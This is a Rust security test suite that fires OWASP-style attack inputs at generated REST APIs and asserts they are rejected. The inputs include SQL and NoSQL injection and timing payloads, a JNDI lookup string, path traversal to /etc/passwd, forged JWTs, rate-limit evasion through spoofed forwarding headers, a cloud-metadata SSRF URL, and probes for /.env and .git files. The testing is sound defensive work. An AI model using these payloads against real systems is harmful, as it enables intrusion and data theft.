//! What attackers send: texts that would be statements, operators or lines somewhere, in every place that the API's own document names.

use crate::harness::Sample;
use crate::harness::client::{ask, get, post};
use crate::harness::schema::{self, Schema};
use crate::harness::server::{Kind, Server};
use crate::harness::workspace::Workspace;
use plan::http_case::{Answer, CaseRequest};
use serde_json::{Value as Json, json};
use std::cell::{Cell, RefCell};
use std::collections::BTreeSet;
use std::time::{Duration, Instant};
use vocab::Engine;

/// Kinds from the cheat sheets of OWASP (SQL injection, NoSQL, response splitting, templates, paths, scripts).
const TEXTS: &[&str] = &[
    "' OR '1'='1",
    "1 OR 1=1",
    "\" OR \"\"=\"",
    "') OR ('1'='1' --",
    "'; DROP TABLE products; --",
    "1; DELETE FROM products",
    "' UNION SELECT id, token_hash FROM api_keys --",
    "'||(SELECT CASE WHEN 1=1 THEN pg_sleep(6) END)||'",
    "' AND SLEEP(6) AND '1'='1",
    "\\'; DROP TABLE products; --",
    "$$; DROP TABLE products; $$",
    "`; DROP TABLE products; --",
    "%' OR name LIKE '%",
    "{\"$gt\":\"\"}",
    "{\"$where\":\"sleep(6000)\"}",
    "${jndi:ldap://192.0.2.1/a}{{7*7}}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
];
/// Longer than any answer here takes, and shorter than the texts would have the engine sleep.
const ASLEEP: Duration = Duration::from_secs(5);
/// What an engine, a driver or a runtime would say of itself.
const INNARDS: &[&str] =
    &["sqlite", "syntax", "postgres", "mariadb", "mysql", "mongo", "at object.", "panicked", "/lib/"];
/// How many places share the texts.
const SHARE: usize = 5;
/// Stands for the attacker's own key.
const OWN: &str = "${own key}";
const PRODUCTS: &str = "/api/products";

#[test]
fn no_text_becomes_a_statement() {
    attack(&Workspace::completed_with(Sample::Products));
}

#[test]
fn no_text_becomes_a_statement_on_servers() {
    for engine in [Engine::PostgreSql, Engine::MySql, Engine::MongoDb] {
        let Some(place) = Schema::empty(engine, "hostile texts") else { continue };
        attack(&Workspace::completed_on(Sample::Products, place.url()));
    }
}

fn attack(workspace: &Workspace) {
    for kind in Kind::all_here() {
        // Each request comes from somewhere else, so that no limit keeps it out.
        let server = Server::of(Server::command(kind, workspace).env("TRUSTED_PROXIES", "127.0.0.0/8"));
        let attacker = Attacker::new(workspace, server);
        let (sentinel, victim) = (attacker.make("sentinel"), attacker.make("victim"));
        let before = (tables(workspace), attacker.count());
        let made = attacker.made.get();
        attacker.store_texts();
        attacker.look_for_texts();
        let document: Json = serde_json::from_slice(&attacker.send(get("/openapi.json")).body).unwrap();
        attacker.ask_everything(&document, victim["id"].as_str().unwrap());
        let again = attacker.send(get(&format!("{PRODUCTS}/{}", sentinel["id"].as_str().unwrap())));
        assert_eq!(serde_json::from_slice::<Json>(&again.body).unwrap(), sentinel, "{kind:?}");
        let made = attacker.made.get() - made;
        assert_eq!((tables(workspace), attacker.count()), (before.0, before.1 + made), "{kind:?}");
    }
}

fn tables(workspace: &Workspace) -> BTreeSet<String> {
    match &workspace.url {
        Some(url) => schema::open(url).inspect().unwrap().into_iter().map(|table| table.name).collect(),
        None => workspace.query("SELECT name FROM sqlite_schema").concat().into_iter().collect(),
    }
}

struct Attacker<'w> {
    workspace: &'w Workspace,
    server: Server,
    key: RefCell<String>,
    asked: Cell<u32>,
    /// Products that were made.
    made: Cell<usize>,
}

impl<'w> Attacker<'w> {
    fn new(workspace: &'w Workspace, server: Server) -> Self {
        let key = RefCell::new(workspace.create_key());
        Self { workspace, server, key, asked: Cell::new(0), made: Cell::new(0) }
    }

    /// What a request is answered: soon, by the API, and without a word of what stands behind it.
    fn send(&self, mut request: CaseRequest) -> Answer {
        let number = self.asked.get();
        self.asked.set(number + 1);
        // Nor does the limit of a key.
        if number % 150 == 149 {
            self.key.replace(self.workspace.create_key());
        }
        request.headers.insert("x-forwarded-for".to_owned(), format!("203.0.{}.{}", number / 250, number % 250));
        let key = self.key.borrow().clone();
        if request.headers.get("x-api-key").is_some_and(|given| given == OWN) {
            request.headers.insert("x-api-key".to_owned(), key);
        }
        let sent = format!("{} {} {:?} {:?}", request.method, request.path, request.headers, request.body);
        let begun = Instant::now();
        let answer = ask(self.server.address, &request, "").unwrap();
        assert!(begun.elapsed() < ASLEEP, "somebody slept: {sent}");
        let text = String::from_utf8_lossy(&answer.body);
        assert!(answer.status < 500, "{}: {sent}: {text}\n{}", answer.status, self.server.log());
        if answer.status >= 400 {
            let told = text.to_lowercase();
            assert!(INNARDS.iter().all(|word| !told.contains(word)), "{sent}: {text}");
        }
        assert_ne!(answer.status, 429, "{sent}");
        if answer.status == 201 && request.method == "POST" && request.path.starts_with(PRODUCTS) {
            self.made.set(self.made.get() + 1);
        }
        answer
    }

    fn make(&self, name: &str) -> Json {
        let body = json!({ "name": name, "stock": 1, "notes": name });
        let answer = self.send(post(PRODUCTS, Some(OWN), &body.to_string()));
        assert_eq!(answer.status, 201, "{name}: {}", String::from_utf8_lossy(&answer.body));
        serde_json::from_slice(&answer.body).unwrap()
    }

    fn list(&self, query: &str) -> Vec<String> {
        let answer = self.send(get(&format!("{PRODUCTS}?{query}")));
        assert_eq!(answer.status, 200, "{query}: {}", String::from_utf8_lossy(&answer.body));
        let page: Json = serde_json::from_slice(&answer.body).unwrap();
        page["items"].as_array().unwrap().iter().map(|item| item["name"].as_str().unwrap().to_owned()).collect()
    }

    /// How many products there are.
    fn count(&self) -> usize {
        let (mut count, mut path) = (0, format!("{PRODUCTS}?limit=100"));
        loop {
            let page: Json = serde_json::from_slice(&self.send(get(&path)).body).unwrap();
            count += page["items"].as_array().unwrap().len();
            let Some(next) = page["next"].as_str() else { return count };
            path = format!("{PRODUCTS}?limit=100&cursor={next}");
        }
    }

    /// Every text is kept as it is.
    fn store_texts(&self) {
        for text in TEXTS {
            let made = self.make(text);
            assert_eq!((&made["name"], &made["notes"]), (&json!(text), &json!(text)));
        }
    }

    /// Whoever looks for one finds that one, also where it stands in an expression.
    fn look_for_texts(&self) {
        for text in TEXTS {
            let found = self.list(&format!("name={}", encoded(text)));
            assert!(!found.is_empty() && found.iter().all(|name| name == text), "{text}: {found:?}");
            let quoted = format!("name = '{}'", text.replace('\'', "''"));
            assert_eq!(self.list(&format!("filter={}", encoded(&quoted))), found, "{text}");
            assert_eq!(self.list(&format!("name={}", encoded(&format!("{text} ' OR 1=1")))), [""; 0], "{text}");
        }
    }

    /// Texts in every parameter, every field and every header.
    fn ask_everything(&self, document: &Json, id: &str) {
        let paths = document["paths"].as_object().unwrap();
        let mut places = 0;
        // Each place gets some of the texts, others than the place before: all come by many times.
        for (path, operations) in paths {
            for (method, operation) in operations.as_object().unwrap() {
                for place in Place::of(operation, document) {
                    places += 1;
                    for text in TEXTS.iter().skip(places % SHARE).step_by(SHARE) {
                        self.send(self.request(path, method, &place, text, id));
                    }
                }
            }
        }
        // Fewer would mean that the document was not read.
        assert!(places > 60, "{places}");
    }

    fn request(&self, path: &str, method: &str, place: &Place, text: &str, id: &str) -> CaseRequest {
        let known = if method == "delete" { "01900000-0000-7000-8000-00000000dead" } else { id };
        let mut filled = path.replace("{id}", known);
        let mut body = None;
        let mut headers = vec![("x-api-key".to_owned(), OWN.to_owned())];
        let with = |example: &Json, name: &str, value: Json| {
            let mut body = example.clone();
            body[name] = value;
            Some(body)
        };
        match place {
            Place::Path => filled = path.replace("{id}", &encoded(text)),
            Place::Query(name) => filled = format!("{filled}?{}={}", encoded(name), encoded(text)),
            Place::QueryName => filled = format!("{filled}?{}=1", encoded(text)),
            Place::Header(name) => headers.push((name.to_lowercase(), text.to_owned())),
            Place::Field(name, example) => body = with(example, name, json!(text)),
            Place::FieldName(example) => body = with(example, text, json!(text)),
            Place::Operator(name, example) => body = with(example, name, json!({ "$ne": text })),
        }
        let mut request = CaseRequest { method: method.to_uppercase(), body, ..get(&filled) };
        request.headers.extend(headers);
        request
    }
}

/// Where a text goes. In bodies it stands in an example that is right otherwise.
enum Place {
    Path,
    Query(String),
    QueryName,
    Header(String),
    Field(String, Json),
    FieldName(Json),
    Operator(String, Json),
}

impl Place {
    /// What an operation of the document takes, and what it does not name but any client can send.
    fn of(operation: &Json, document: &Json) -> Vec<Self> {
        let mut places = vec![Self::QueryName];
        for parameter in operation["parameters"].as_array().into_iter().flatten() {
            let name = parameter["name"].as_str().unwrap().to_owned();
            places.push(match parameter["in"].as_str().unwrap() {
                "path" => Self::Path,
                "query" => Self::Query(name),
                _ => Self::Header(name),
            });
        }
        let names = ["X-API-Key", "Authorization", "X-Request-Id", "If-None-Match", "Cookie"];
        places.extend(names.map(|name| Self::Header(name.to_owned())));
        let media = &operation["requestBody"]["content"]["application/json"];
        if let Some(schema) = media["schema"]["$ref"].as_str() {
            let example = &media["example"];
            places.push(Self::FieldName(example.clone()));
            let schema = document.pointer(schema.trim_start_matches('#')).unwrap();
            for name in schema["properties"].as_object().unwrap().keys() {
                places.push(Self::Field(name.clone(), example.clone()));
                places.push(Self::Operator(name.clone(), example.clone()));
            }
        }
        places
    }
}

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => char::from(byte).to_string(),
            _ => format!("%{byte:02X}"),
        })
        .collect()
}

/// One attempt for each of the ten risks of APIs that OWASP lists (2023), as `docs/security.md` tells them.
mod ten {
    use super::*;
    use crate::harness::on_both_servers;
    use crate::harness::server::AUTH_SECRET;
    use base64::Engine as _;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;

    on_both_servers!(attempts_come_to_nothing);

    const PASSWORD: &str = "engine of analysis";

    struct Api {
        server: Server,
        from: Cell<u32>,
    }

    impl Api {
        /// From an address that nothing was sent from yet.
        fn asks(&self, method: &str, path: &str, token: Option<&str>, body: Option<Json>) -> Answer {
            let number = self.from.get();
            self.from.set(number + 1);
            let mut request = CaseRequest { method: method.to_owned(), body, ..get(path) };
            request.headers.insert("x-forwarded-for".to_owned(), format!("203.0.113.{}", number % 250));
            request.headers.extend(token.map(|token| ("authorization".to_owned(), format!("Bearer {token}"))));
            ask(self.server.address, &request, "").unwrap()
        }

        fn status(&self, method: &str, path: &str, token: Option<&str>, body: Option<Json>) -> u16 {
            self.asks(method, path, token, body).status
        }

        fn signs_in(&self, name: &str) -> String {
            let who = json!({ "email": format!("{name}@example.com"), "password": PASSWORD, "name": name });
            assert_eq!(self.status("POST", "/api/auth/register", None, Some(who.clone())), 202);
            let login = json!({ "email": who["email"], "password": PASSWORD });
            let tokens = told(&self.asks("POST", "/api/auth/login", None, Some(login)));
            tokens["access_token"].as_str().unwrap_or_else(|| panic!("{tokens}")).to_owned()
        }
    }

    fn told(answer: &Answer) -> Json {
        serde_json::from_slice(&answer.body).unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&answer.body)))
    }

    fn attempts_come_to_nothing(kind: Kind) {
        let workspace = Workspace::completed_with(Sample::Notes);
        let mut command = Server::command(kind, &workspace);
        command.env("AUTH_SECRET", AUTH_SECRET).env("TRUSTED_PROXIES", "127.0.0.0/8");
        let api = Api { server: Server::of(&mut command), from: Cell::new(0) };
        let (ada, eve) = (api.signs_in("ada"), api.signs_in("eve"));
        let note = told(&api.asks("POST", "/api/notes", Some(&ada), Some(json!({ "title": "Mine" }))));
        let path = format!("/api/notes/{}", note["id"].as_str().unwrap());

        objects(&api, &eve, &path);
        tokens(&api, &ada, &path);
        properties(&api, &eve);
        resources(&api, &eve);
        functions(&api, &eve);
        flows(&workspace, &api);
        forgery(&api, &ada);
        configuration(&api);
        inventory(&api);
        // With what came with it, which is nothing.
        let after = told(&api.asks("GET", &format!("{path}?include=scribbles"), Some(&ada), None));
        assert_eq!(after, note, "nobody has changed it");
    }

    /// API1: records of others.
    fn objects(api: &Api, eve: &str, path: &str) {
        let change = || Some(json!({ "title": "Yours" }));
        for (method, path, body) in [
            ("GET", path.to_owned(), None),
            ("PATCH", path.to_owned(), change()),
            ("PUT", path.to_owned(), change()),
            ("DELETE", path.to_owned(), None),
            ("GET", format!("{path}/scribbles"), None),
            ("POST", format!("{path}/scribbles"), Some(json!({ "label": "x" }))),
        ] {
            assert_eq!(api.status(method, &path, Some(eve), body), 404, "{method} {path}");
        }
        let list = told(&api.asks("GET", "/api/notes", Some(eve), None));
        assert_eq!(list["items"], json!([]));
    }

    /// API2: tokens that were made up, and guessed passwords.
    fn tokens(api: &Api, ada: &str, path: &str) {
        let parts: Vec<&str> = ada.split('.').collect();
        let decoded = |part: &str| -> Json { serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).unwrap()).unwrap() };
        let encoded = |json: &Json| URL_SAFE_NO_PAD.encode(json.to_string());
        let with = |mut json: Json, name: &str, value: &str| {
            json[name] = value.into();
            encoded(&json)
        };
        let (head, claims) = (decoded(parts[0]), decoded(parts[1]));
        for (what, token) in [
            ("no algorithm", format!("{}.{}.", with(head.clone(), "alg", "none"), parts[1])),
            ("no algorithm, a signature", format!("{}.{}.{}", with(head.clone(), "alg", "None"), parts[1], parts[2])),
            ("a symmetric one", format!("{}.{}.{}", with(head.clone(), "alg", "HS256"), parts[1], parts[2])),
            ("another role", format!("{}.{}.{}", parts[0], with(claims.clone(), "role", "admin"), parts[2])),
            ("another key", format!("{}.{}.{}", with(head, "kid", "../../etc/passwd"), parts[1], parts[2])),
            ("no signature", format!("{}.{}.", parts[0], parts[1])),
        ] {
            assert_eq!(api.status("GET", path, Some(&token), None), 401, "{what}");
        }
        let guess =
            |number: usize| Some(json!({ "email": "ada@example.com", "password": format!("guess number {number}") }));
        let answers: Vec<u16> =
            (0..30).map(|number| api.status("POST", "/api/auth/login", None, guess(number))).collect();
        assert_eq!((answers[0], answers[29]), (401, 429), "from thirty addresses: {answers:?}");
    }

    /// API3: fields that are not the caller's to say, or to see.
    fn properties(api: &Api, eve: &str) {
        let user = "01900000-0000-7000-8000-000000000001";
        for (name, value) in [
            ("user_id", json!(user)),
            ("id", json!(user)),
            ("row_version", json!(9)),
            ("created_at", json!("2020-01-01T00:00:00Z")),
            ("__proto__", json!({ "title": "x" })),
            ("constructor", json!({ "prototype": { "title": "x" } })),
        ] {
            let body = json!({ "title": "x", name: value });
            assert_eq!(api.status("POST", "/api/notes", Some(eve), Some(body)), 422, "{name}");
        }
        let admin = json!({ "email": "mallory@example.com", "password": PASSWORD, "name": "Mallory", "role": "admin" });
        assert_eq!(api.status("POST", "/api/auth/register", None, Some(admin)), 422);
    }

    /// API4: more than a request may take.
    fn resources(api: &Api, eve: &str) {
        let long = Some(json!({ "title": "x".repeat(20_000_000) }));
        assert_eq!(api.status("POST", "/api/notes", Some(eve), long), 413);
        let mut deep = json!("x");
        for _ in 0..100 {
            deep = json!([deep]);
        }
        assert_eq!(api.status("POST", "/api/notes", Some(eve), Some(json!({ "title": deep }))), 400);
        assert_eq!(api.status("GET", "/api/notes?limit=1000000", Some(eve), None), 422);
        let filter = "(".repeat(1000);
        assert_eq!(api.status("GET", &format!("/api/notes?filter={filter}"), Some(eve), None), 422);
    }

    /// API5: what is for others to do.
    fn functions(api: &Api, eve: &str) {
        assert_eq!(api.status("GET", "/api/admin/notes", Some(eve), None), 403);
        assert_eq!(api.status("GET", "/api/projects/01900000-0000-7000-8000-000000000001", Some(eve), None), 403);
        for method in ["DELETE", "PUT", "PATCH", "TRACE", "PROPFIND"] {
            assert_eq!(api.status(method, "/api/notes", Some(eve), None), 405, "{method}");
        }
        let mut overridden = CaseRequest { method: "POST".to_owned(), body: Some(json!({})), ..get("/api/notes") };
        overridden.headers.insert("x-http-method-override".to_owned(), "DELETE".to_owned());
        overridden.headers.insert("authorization".to_owned(), format!("Bearer {eve}"));
        assert_eq!(ask(api.server.address, &overridden, "").unwrap().status, 422, "it is a POST");
    }

    /// API6: a mailbox filled by somebody who has others mailed.
    fn flows(workspace: &Workspace, api: &Api) {
        let forgotten = || Some(json!({ "email": "ada@example.com" }));
        for _ in 0..30 {
            let status = api.status("POST", "/api/auth/forgot-password", None, forgotten());
            assert!([202, 429].contains(&status), "{status}");
        }
        let mails = workspace.query("SELECT count(*) FROM outbox_events WHERE name = 'password_reset'");
        let mails: u32 = mails[0][0].parse().unwrap();
        assert!((1..=5).contains(&mails), "{mails} mails of thirty requests from as many addresses");
    }

    /// API7: addresses that the server would have to ask, or to write into a mail, for somebody.
    fn forgery(api: &Api, ada: &str) {
        let body = json!({ "title": "http://169.254.169.254/latest/meta-data/" });
        let made = told(&api.asks("POST", "/api/notes", Some(ada), Some(body.clone())));
        assert_eq!(made["title"], body["title"], "it is a text, and nobody goes there");
        let path = format!("/api/notes/{}", made["id"].as_str().unwrap());
        assert_eq!(api.status("DELETE", &path, Some(ada), None), 204);
    }

    /// API8: what a server says of itself, and to whom.
    fn configuration(api: &Api) {
        let mut broken = post("/api/auth/login", None, "{\"email\": ");
        let answer = ask(api.server.address, &broken, "").unwrap();
        broken.headers.insert("origin".to_owned(), "https://evil.example".to_owned());
        assert_eq!(ask(api.server.address, &broken, "").unwrap().status, 403);
        let text = String::from_utf8_lossy(&answer.body).to_lowercase();
        assert!(answer.status == 400 && INNARDS.iter().all(|word| !text.contains(word)), "{text}");
        for name in ["server", "x-powered-by", "access-control-allow-origin", "access-control-allow-credentials"] {
            assert!(!answer.headers.contains_key(name), "{name}");
        }
        assert_eq!(answer.headers["x-content-type-options"], "nosniff");
        assert_eq!(answer.headers["cache-control"], "no-store");
    }

    /// API9: paths that nobody has written down.
    fn inventory(api: &Api) {
        for path in [
            "/.env",
            "/.git/config",
            "/admin",
            "/debug/pprof",
            "/api/v0/notes",
            "/api/notes.json",
            "/api/notes/",
            "/API/notes",
            "/actuator/env",
            "/phpinfo.php",
            "/server-status",
            "/api/../.producer/data",
            "/docs/../package.json",
            "/docs/%2e%2e/package.json",
            "/swagger.json",
            "/graphql",
            "/_simulator",
            "/node_modules/express/package.json",
        ] {
            assert_eq!(api.status("GET", path, None, None), 404, "{path}");
        }
    }
}
